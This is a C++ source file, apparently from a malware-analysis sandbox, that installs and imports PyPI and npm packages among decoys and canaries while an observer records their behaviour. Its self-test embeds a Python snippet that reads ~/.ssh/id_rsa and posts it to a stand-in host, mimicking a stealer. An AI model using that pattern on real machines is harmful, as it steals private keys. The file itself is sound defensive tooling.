#include "behavior/detonate.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/utsname.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <nlohmann/json.hpp>

#include "base/file.h"
#include "behavior/decoys.h"

namespace batlehub::behavior {

namespace {

constexpr std::size_t kPackageJsonMax = 1024 * 1024;
constexpr std::size_t kListMax = 256 * 1024;  // top_level.txt, RECORD
constexpr const char* kNodeFallback = "/usr/local/lib/batlehub/fallback.js";

bool identifier(std::string_view s) {
  if (s.empty() || s.size() > 128) return false;
  for (std::size_t i = 0; i < s.size(); ++i) {
    const char c = s[i];
    const bool alpha = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_';
    if (!alpha && !(i > 0 && c >= '0' && c <= '9')) return false;
  }
  return true;
}

std::vector<std::string> entries(const std::string& dir) {
  std::vector<std::string> out;
  DIR* d = ::opendir(dir.c_str());
  if (d == nullptr) return out;
  while (dirent* e = ::readdir(d)) {
    const std::string name = e->d_name;
    if (name != "." && name != "..") out.push_back(name);
  }
  ::closedir(d);
  std::sort(out.begin(), out.end());
  return out;
}

Expected<Ok, std::string> make_dir(const std::string& p) {
  if (::mkdir(p.c_str(), 0700) != 0 && errno != EEXIST) return Unexpected("mkdir '" + p + "': " + std::strerror(errno));
  return Ok{};
}

std::optional<std::string> site_packages(const std::string& venv) {
  for (const std::string& e : entries(venv + "/lib")) {
    if (e.rfind("python3", 0) == 0) return venv + "/lib/" + e + "/site-packages";
  }
  return std::nullopt;
}

}  // namespace

Expected<std::string, std::string> name_pypi_archive(const std::string& path) {
  std::uint64_t size = 0;
  auto fd = base::open_regular(path, &size, {.follow_links = false});
  if (!fd) return Unexpected("the archive '" + path + "' cannot be opened as a regular file");
  char magic[6] = {};
  if (::pread(fd->get(), magic, sizeof magic, 0) != static_cast<ssize_t>(sizeof magic)) {
    return Unexpected("the archive '" + path + "' is shorter than any archive");
  }
  const std::string_view m(magic, sizeof magic);
  std::string name;
  const std::string stem = "package-0";
  if (m.substr(0, 2) == "\x1f\x8b") {
    name = stem + ".tar.gz";
  } else if (m.substr(0, 3) == "BZh") {
    name = stem + ".tar.bz2";
  } else if (m == std::string_view("\xfd"
                                   "7zXZ\0",
                                   6)) {
    name = stem + ".tar.xz";
  } else if (m.substr(0, 4) == std::string_view("PK\x03\x04", 4)) {
    // The central directory is at the end, its names stored as they are: the last MiB holds it
    // for any wheel a registry serves (a name per member, ~100 bytes each).
    constexpr std::uint64_t kTail = 1024 * 1024;
    const std::uint64_t from = size > kTail ? size - kTail : 0;
    std::string tail(static_cast<std::size_t>(size - from), '\0');
    const ssize_t got = ::pread(fd->get(), tail.data(), tail.size(), static_cast<off_t>(from));
    tail.resize(got > 0 ? static_cast<std::size_t>(got) : 0);
    name = stem + ".zip";
    for (std::size_t at = tail.find(".dist-info/WHEEL"); at != std::string::npos;
         at = tail.find(".dist-info/WHEEL", at + 1)) {
      std::size_t begin = at;
      while (begin > 0 && at - begin < 200) {
        const char c = tail[begin - 1];
        if (!((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_' || c == '.' ||
              c == '-' || c == '+'))
          break;
        --begin;
      }
      const std::string dist = tail.substr(begin, at - begin);  // "<name>-<version>"
      const std::size_t dash = dist.find('-');
      if (dash == std::string::npos || dash == 0 || dash + 1 == dist.size() ||
          dist.find('-', dash + 1) != std::string::npos) {
        continue;
      }
      name = dist + "-py3-none-any.whl";
      break;
    }
  } else {
    return Unexpected("the archive '" + path + "' is neither a tarball (gzip, bzip2, xz) nor a zip");
  }
  const std::string linked = path.substr(0, path.rfind('/') + 1) + name;
  if (::link(path.c_str(), linked.c_str()) != 0 && errno != EEXIST) {
    return Unexpected("naming the archive '" + linked + "': " + std::strerror(errno));
  }
  return linked;
}

DetonationDirs dirs_for(const std::string& w) {
  return {w + "/home", w + "/tmp", w + "/venv", w + "/npm-cache", w + "/tls"};
}

std::vector<std::string> base_environment(const DetonationDirs& d, const std::string& canary, const std::string& path) {
  const std::string ca = ca_file(d);
  std::vector<std::string> env = {"HOME=" + d.home, "USER=builder", "LOGNAME=builder", "TMPDIR=" + d.tmp,
                                  "PATH=" + path, "LANG=C.UTF-8", "SHELL=/bin/sh",
                                  // glibc's resolver over TCP (the observer answers every stream to
                                  // port 53), whatever resolv.conf an engine or the kubelet mounted,
                                  // and a name asked as written, not with a cluster's search suffixes.
                                  "RES_OPTIONS=use-vc attempts:1 timeout:2 ndots:1",
                                  // The sink's CA (tls_sink.h), for OpenSSL (Python's ssl, curl),
                                  // requests, curl and Node; the room's own bundle is a link to it.
                                  "SSL_CERT_FILE=" + ca, "REQUESTS_CA_BUNDLE=" + ca, "CURL_CA_BUNDLE=" + ca,
                                  "NODE_EXTRA_CA_CERTS=" + ca};
  for (std::string& b : bait_environment(canary)) env.push_back(std::move(b));
  utsname u{};
  for (std::string& w : windows_environment(d.home, ::uname(&u) == 0 ? u.nodename : "builder-pc", "builder")) {
    env.push_back(std::move(w));
  }
  return env;
}

PhaseSpec pypi_install(const DetonationOptions& o, const DetonationDirs& d, const std::vector<std::string>& env) {
  PhaseSpec s;
  s.phase = "install";
  s.program = d.venv + "/bin/python";
  s.argv = {s.program, "-m", "pip", "install", "--no-index", "--no-deps", "--no-build-isolation",
            // The room's Python is Debian 12's 3.11: a package that says it needs another is
            // still installed, as a package that lies about it would be on the victim's machine.
            "--ignore-requires-python", "--no-cache-dir", "--disable-pip-version-check", "--no-input", "--no-color",
            o.package};
  s.env = env;
  s.env.push_back("PIP_NO_INDEX=1");
  s.env.push_back("PYTHONDONTWRITEBYTECODE=1");
  s.cwd = d.tmp;
  s.timeout = o.install_timeout;
  return s;
}

std::vector<std::string> installed_modules(const std::string& sp, std::size_t max) {
  std::vector<std::string> out;
  auto push = [&](std::string_view m) {
    if (out.size() < max && identifier(m) && std::find(out.begin(), out.end(), m) == out.end()) out.emplace_back(m);
  };
  for (const std::string& e : entries(sp)) {
    if (e.size() < 10 || e.substr(e.size() - 10) != ".dist-info") continue;
    if (auto top = base::read_regular_file(sp + "/" + e + "/top_level.txt", kListMax, {.follow_links = false})) {
      std::string_view t = top->bytes;
      while (!t.empty()) {
        const std::size_t nl = t.find('\n');
        std::string_view line = t.substr(0, nl);
        while (!line.empty() && (line.back() == '\r' || line.back() == ' ')) line.remove_suffix(1);
        push(line.substr(0, line.find('/')));
        t = nl == std::string_view::npos ? std::string_view{} : t.substr(nl + 1);
      }
      continue;
    }
    if (auto record = base::read_regular_file(sp + "/" + e + "/RECORD", kListMax, {.follow_links = false})) {
      std::string_view t = record->bytes;
      while (!t.empty()) {
        const std::size_t nl = t.find('\n');
        std::string_view path = t.substr(0, std::min(nl, t.find(',')));
        t = nl == std::string_view::npos ? std::string_view{} : t.substr(nl + 1);
        const std::size_t slash = path.find('/');
        if (slash != std::string_view::npos) {
          push(path.substr(0, slash));
        } else if (path.size() > 3 && path.substr(path.size() - 3) == ".py") {
          push(path.substr(0, path.size() - 3));
        }
      }
    }
  }
  return out;
}

PhaseSpec pypi_import(const DetonationOptions& o, const DetonationDirs& d, const std::vector<std::string>& env,
                      const std::string& module) {
  PhaseSpec s;
  s.phase = "import";
  s.program = d.venv + "/bin/python";
  // The module's name is an argument, never part of the code.
  if (o.import_script.empty()) {
    s.argv = {s.program, "-c", "import importlib, sys; importlib.import_module(sys.argv[1])", module};
  } else {
    s.argv = {s.program, o.import_script, module};
  }
  s.env = env;
  s.env.push_back("PYTHONDONTWRITEBYTECODE=1");
  s.cwd = d.tmp;
  s.timeout = o.import_timeout;
  return s;
}

PhaseSpec as_windows(PhaseSpec s) {
  s.view = "windows";
  s.env.push_back("BATLEHUB_VIEW=windows");
  if (s.phase == "install") {
    // Into the venv the first install filled: the same files again, built anew.
    const auto at = std::find(s.argv.begin(), s.argv.end(), "install");
    if (at != s.argv.end()) s.argv.insert(at + 1, "--force-reinstall");
  }
  return s;
}

PhaseSpec pypi_execute(const DetonationOptions& o, const DetonationDirs& d, const std::vector<std::string>& env,
                       const std::string& module) {
  PhaseSpec s = pypi_import(o, d, env, module);
  s.phase = "execute";
  s.argv = {s.program, kExecuteScript, module};
  return s;
}

Expected<NpmPackage, std::string> read_npm_package(const std::string& bytes, bool binding_gyp) {
  if (bytes.size() > kPackageJsonMax) return Unexpected(std::string("package.json is over 1 MiB"));
  nlohmann::json j = nlohmann::json::parse(bytes, nullptr, /*allow_exceptions=*/false);
  if (j.is_discarded() || !j.is_object()) return Unexpected(std::string("package.json is not a JSON object"));
  NpmPackage p;
  if (auto n = j.find("name"); n != j.end() && n->is_string()) p.name = n->get<std::string>();
  if (auto v = j.find("version"); v != j.end() && v->is_string()) p.version = v->get<std::string>();
  if (auto s = j.find("scripts"); s != j.end() && s->is_object()) {
    for (const char* event : {"preinstall", "install", "postinstall"}) {
      if (auto h = s->find(event); h != s->end() && h->is_string() && !h->get<std::string>().empty()) {
        p.hooks.emplace_back(event, h->get<std::string>());
      }
    }
  }
  const bool installs = std::any_of(p.hooks.begin(), p.hooks.end(),
                                    [](const auto& h) { return h.first == "preinstall" || h.first == "install"; });
  if (binding_gyp && !installs) {
    auto at = std::find_if(p.hooks.begin(), p.hooks.end(), [](const auto& h) { return h.first == "postinstall"; });
    p.hooks.emplace(at, "install", "node-gyp rebuild");
  }
  return p;
}

PhaseSpec npm_hook(const DetonationOptions& o, const DetonationDirs& d, const std::vector<std::string>& env,
                   const NpmPackage& p, const std::pair<std::string, std::string>& hook) {
  PhaseSpec s;
  s.phase = "install";
  s.program = o.shell;
  s.argv = {"sh", "-c", hook.second};
  s.env = env;
  // What npm 9's run-script gives a lifecycle script (@npmcli/run-script), less the config dump.
  for (std::string kv : std::vector<std::string>{
           "npm_lifecycle_event=" + hook.first, "npm_lifecycle_script=" + hook.second, "npm_package_name=" + p.name,
           "npm_package_version=" + p.version, "npm_package_json=" + o.package + "/package.json", "npm_command=install",
           "npm_config_user_agent=npm/9.2.0 node/v18.20.4 linux x64 workspaces/false", "npm_config_cache=" + d.cache,
           "npm_node_execpath=" + o.node, "NODE=" + o.node, "INIT_CWD=" + d.tmp}) {
    s.env.push_back(std::move(kv));
  }
  s.cwd = o.package;
  s.timeout = o.install_timeout;
  return s;
}

PhaseSpec npm_require(const DetonationOptions& o, const DetonationDirs& d, const std::vector<std::string>& env) {
  PhaseSpec s;
  s.phase = "import";
  s.program = o.node;
  s.argv = {"node", "-e", "require(require('path').resolve(process.argv[1]))", o.package};
  s.env = env;
  s.cwd = d.tmp;
  s.timeout = o.import_timeout;
  return s;
}

namespace {

// What every run starts with: its directories, a canary, the decoy home planted with it, the
// observer, and the observer's CA certificate where the phases' clients are told to find it.
struct Prepared {
  std::string canary;
  std::unique_ptr<Observer> observer;
};

Expected<Prepared, std::string> prepare(const DetonationDirs& d, std::vector<std::string> dirs,
                                        std::vector<std::string> write_roots) {
  dirs.push_back(d.tls);
  for (const std::string& p : dirs) {
    if (auto ok = make_dir(p); !ok) return Unexpected(ok.error());
  }
  Prepared p;
  auto canary = make_canary();
  if (!canary) return Unexpected(canary.error());
  p.canary = std::move(*canary);
  if (auto ok = plant(d.home, p.canary); !ok) return Unexpected(ok.error());
  ObserverOptions oo;
  oo.home = d.home;
  oo.canary = p.canary;
  oo.write_roots = std::move(write_roots);
  auto observer = Observer::create(oo);
  if (!observer) return Unexpected(observer.error());
  p.observer = std::move(*observer);
  p.observer->trace().home = d.home;
  const std::string ca = ca_file(d);
  base::Fd f(::open(ca.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOFOLLOW, 0644));
  if (!f.valid() || !base::write_all(f.get(), p.observer->tls_ca_pem())) {
    return Unexpected("writing the sink's CA certificate to " + ca + ": " + std::strerror(errno));
  }
  return p;
}

}  // namespace

Expected<Trace, std::string> self_test(const DetonationOptions& o) {
  const DetonationDirs d = dirs_for(o.work_dir);
  auto prepared = prepare(d, {d.home, d.tmp}, {d.tmp});
  if (!prepared) return Unexpected(prepared.error());
  Observer& obs = *prepared->observer;
  obs.trace().ecosystem = "self-test";
  PhaseSpec s;
  s.phase = "self-test";
  s.program = o.python;
  // The helper does what a stealer does: starts a shell, reads the decoy key, asks a name and
  // posts the key to it, over HTTP and over HTTPS (the client trusting what the room says).
  s.argv = {"python3", "-c",
            "import os, socket, ssl\n"
            "os.system('true')\n"
            "key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
            "host = '" +
                std::string(kSelfTestHost) +
                "'\n"
                "post = b'POST /self-test HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\nContent-Length: ' + "
                "str(len(key)).encode() + b'\\r\\n\\r\\n' + key\n"
                "s = socket.create_connection((host, 80), timeout=5)\n"
                "s.sendall(post)\n"
                "s.recv(64)\n"
                "t = ssl.create_default_context().wrap_socket(socket.create_connection((host, 443), timeout=5), "
                "server_hostname=host)\n"
                "t.sendall(post)\n"
                "t.recv(64)\n"};
  s.env = base_environment(d, prepared->canary, "/usr/local/bin:/usr/bin:/bin");
  s.cwd = d.tmp;
  s.timeout = o.import_timeout;
  obs.run(s);
  return std::move(obs.trace());
}

Expected<Trace, std::string> detonate(const DetonationOptions& o) {
  const DetonationDirs d = dirs_for(o.work_dir);
  std::vector<std::string> dirs = {d.home, d.tmp, d.cache};
  if (o.ecosystem == Ecosystem::kPyPI) dirs.push_back(d.venv);
  auto prepared = prepare(d, dirs, {d.tmp, d.cache, o.ecosystem == Ecosystem::kPyPI ? d.venv : o.package});
  if (!prepared) return Unexpected(prepared.error());
  Observer& obs = *prepared->observer;
  const std::string& canary = prepared->canary;

  if (o.ecosystem == Ecosystem::kPyPI) {
    obs.trace().ecosystem = "pypi";
    const auto env = base_environment(d, canary, d.venv + "/bin:/usr/local/bin:/usr/bin:/bin");
    PhaseSpec venv;
    venv.phase = "prepare";
    venv.program = o.python;
    venv.argv = {"python3", "-m", "venv", "--system-site-packages", "--without-pip", d.venv};
    venv.env = env;
    venv.cwd = d.tmp;
    venv.timeout = o.install_timeout;
    const PhaseRecord v = obs.run(venv);
    if (v.exit_code != 0) {
      return Unexpected("creating the venv (" + o.python + " -m venv) failed: " + v.error + v.output_tail);
    }
    auto named = name_pypi_archive(o.package);
    if (!named) return Unexpected(named.error());
    DetonationOptions with_name = o;
    with_name.package = *named;
    const PhaseRecord installed = obs.run(pypi_install(with_name, d, env));
    // The import phases' script, where the room holds it (both passes).
    DetonationOptions io = o;
    if (::access(io.import_script.c_str(), R_OK) != 0) io.import_script.clear();
    // An import is tried only of what was installed: a failed build leaves nothing to import.
    if (installed.exit_code == 0) {
      if (auto sp = site_packages(d.venv)) {
        const auto modules = installed_modules(*sp, o.max_modules);
        for (const std::string& m : modules) obs.run(pypi_import(io, d, env, m));
        if (::access(kExecuteScript, R_OK) == 0) {
          for (const std::string& m : modules) obs.run(pypi_execute(o, d, env, m));
        }
      }
    }
    // The Windows view: the install and the imports once more, the package's own code reading
    // Windows' answers (rooms/behavior/fallback.py), where the room holds the stand-in that
    // gives it.
    if (::access(kWindowsView, R_OK) == 0) {
      const PhaseRecord again = obs.run(as_windows(pypi_install(with_name, d, env)));
      if (again.exit_code == 0) {
        if (auto sp = site_packages(d.venv)) {
          for (const std::string& m : installed_modules(*sp, o.max_modules)) {
            obs.run(as_windows(pypi_import(io, d, env, m)));
          }
        }
      }
    }
    return std::move(obs.trace());
  }

  obs.trace().ecosystem = "npm";
  auto bytes = base::read_regular_file(o.package + "/package.json", kPackageJsonMax, {.follow_links = false});
  if (!bytes) {
    return Unexpected("reading " + o.package + "/package.json: " +
                      (bytes.error().kind == base::FileError::Kind::kTooLarge ? std::string("over 1 MiB")
                                                                              : std::strerror(bytes.error().err)));
  }
  struct stat gyp {};
  const bool binding_gyp = ::lstat((o.package + "/binding.gyp").c_str(), &gyp) == 0 && S_ISREG(gyp.st_mode);
  auto pkg = read_npm_package(bytes->bytes, binding_gyp);
  if (!pkg) return Unexpected(o.package + "/package.json: " + pkg.error());
  auto env = base_environment(d, canary, o.package + "/node_modules/.bin:/usr/local/bin:/usr/bin:/bin");
  // The room's stand-in for a dependency the package requires and the room lacks
  // (rooms/behavior/fallback.js); where it is missing (a test's host root) Node says so and
  // runs nothing.
  if (::access(kNodeFallback, R_OK) == 0) env.push_back(std::string("NODE_OPTIONS=--require ") + kNodeFallback);
  for (const auto& hook : pkg->hooks) {
    const PhaseRecord r = obs.run(npm_hook(o, d, env, *pkg, hook));
    if (r.exit_code != 0) break;  // npm stops at the first hook that fails
  }
  obs.run(npm_require(o, d, env));
  return std::move(obs.trace());
}

}  // namespace batlehub::behavior
